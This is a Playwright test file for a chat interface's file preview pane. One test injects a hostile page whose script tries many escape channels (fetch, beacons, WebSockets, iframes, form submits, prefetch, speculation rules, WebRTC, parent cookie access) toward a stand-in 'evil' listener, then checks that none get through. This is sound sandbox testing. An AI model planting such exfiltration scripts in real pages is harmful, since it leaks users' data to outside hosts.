"""Check the preview of files from calls and answers, next to the conversation, in a frame without
any exit."""

from __future__ import annotations

import asyncio

from playwright.async_api import Browser, expect

from tests.browser.stage import MARKS, Person, Server, at_the_page
from tests.browser.test_sandbox import Listener, evil  # noqa: F401 - a fixture

pytestmark = MARKS

# The attempts of a hostile page. It reports when all attempts that can be awaited are done.
LEAVE = """
const tried = [
  () => fetch("URL/?fetch"),
  () => new Image().src = "URL/?image",
  () => navigator.sendBeacon("URL/?beacon", "x"),
  () => new WebSocket("URL".replace("http", "ws")),
  () => new EventSource("URL/?events"),
  () => open("URL/?open"),
  () => parent.document.cookie,
  () => { top.location = "URL/?top" },
  () => localStorage.getItem("a"),
  () => { const f = document.createElement("iframe"); f.src = "URL/?frame"; document.body.append(f) },
  () => { const f = document.createElement("form"); f.action = "URL/?form";
    document.body.append(f); f.submit() },
  () => { document.head.innerHTML += "<link rel=stylesheet href='URL/?style'>" },
  () => { document.head.innerHTML += "<link rel=prefetch href='URL/?prefetch'>" },
  () => { document.head.innerHTML += "<meta http-equiv=refresh content='0; url=URL/?refresh'>" },
  () => { const s = document.createElement("script"); s.type = "speculationrules";
    s.textContent = '{"prefetch": [{"source": "list", "urls": ["URL/?speculated"]}]}';
    document.head.append(s) },
  () => new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:1"}]}).createDataChannel("x"),
];
for (const one of tried) try { const it = one(); it?.catch?.(() => 0); } catch {}
console.log("all tried");
setTimeout(() => { location = "URL/?go" }, 300);
"""


async def test_a_page_that_calls_wrote_is_shown_with_its_scripts_and_versions(person: Person) -> None:
    """U3, U4: live, by its source, and with a comment that is the next message."""
    await person.say("chart")
    for _ in range(2):
        await person.by("allow").click()
    await person.sees("Drawn.")
    await person.by("open-preview").last.click()
    shown = person.page.frame_locator("[data-testid=preview-frame]").locator("p")
    await expect(shown).to_have_text("Second chart, drawn by a script")
    await expect(person.by("preview-version")).to_have_text("2/2")
    await person.page.get_by_role("button", name="Previous version").click()
    await expect(shown).to_have_text("First chart, drawn by a script")
    await person.by("preview-source").click()
    await expect(person.by("preview-body")).to_contain_text("<title>First</title>")
    await person.by("preview-comment").click()
    await person.by("preview-comment-text").fill("Make it blue.")
    await person.by("preview-comment-send").click()
    await expect(person.by("message").last).to_contain_text("About `chart.html` (version 1):")
    await person.by("answer").first.get_by_role("button", name="Preview").last.click()
    await expect(person.by("preview")).to_have_attribute("data-kind", "csv")
    await expect(person.by("preview-body").locator("td").first).to_have_text("Ada")
    await person.by("close-preview").click()
    await expect(person.by("preview")).to_have_count(0)


async def test_a_hostile_page_reaches_neither_the_network_nor_the_web_ui(
    browser: Browser,
    server: Server,
    evil: Listener,  # noqa: F811
) -> None:
    """U3, U4"""
    page = f"<!doctype html><p>here</p><script>{LEAVE.replace('URL', evil.url)}</script>"
    async with at_the_page(browser, server) as person:
        await person.say(f"html: {page}")
        async with person.page.expect_console_message(lambda said: said.text == "all tried"):
            await person.by("answer").last.get_by_role("button", name="Preview").click()
        address = person.page.url
        await asyncio.sleep(1)  # the last attempt leaves after 300 ms
        assert evil.heard == []
        assert person.page.url == address
        assert len(person.page.context.pages) == 1
